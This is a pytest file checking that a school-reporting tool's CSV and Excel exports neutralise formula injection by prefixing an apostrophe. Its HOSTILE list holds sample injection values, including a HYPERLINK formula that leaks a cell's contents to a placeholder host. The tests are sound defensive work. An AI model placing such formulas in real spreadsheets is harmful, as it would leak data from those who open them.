"""Exports are safe to open in Excel/WPS: no cell an office forwards can become a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from engine.export import SheetColumn, neutralise, write_csv, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://x/?leak="&A2,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["沂源县实验小学", "a=b", "3703230001", 25, -3, 0.5, None, date(2022, 11, 30)])
def test_other_values_are_untouched(value: object) -> None:
    assert neutralise(value) == value


def test_csv_cells_title_and_header_are_neutralised() -> None:
    out = io.StringIO()
    write_csv(out, ["学校", "=列"], [[HOSTILE[0], -3], [None, "ok"]], title=["@计划"])
    text = out.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["'@计划"], ["学校", "'=列"], ["'" + HOSTILE[0], "-3"], ["", "ok"]]


def test_xlsx_has_title_frozen_header_widths_and_no_formula() -> None:
    data = xlsx_bytes("逾期学校", [SheetColumn("学校", width=30), SheetColumn("完成率", number_format="0.0%"), SheetColumn("学校标识码")],
                      [[text, 0.25, "3703230001"] for text in HOSTILE], title=["沂源县整校推进", "数据截至 2022-08-31"])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A1"].value == "沂源县整校推进" and sheet["A1"].font.bold
    assert [c.value for c in sheet[3]] == ["学校", "完成率", "学校标识码"]
    assert sheet.freeze_panes == "A4"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.column_dimensions["B"].width >= 10
    cells = [sheet.cell(row=r, column=1) for r in range(4, 4 + len(HOSTILE))]
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)
    assert sheet["B4"].value == 0.25 and sheet["B4"].number_format == "0.0%"
    # The workbook itself holds no formula anywhere.
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
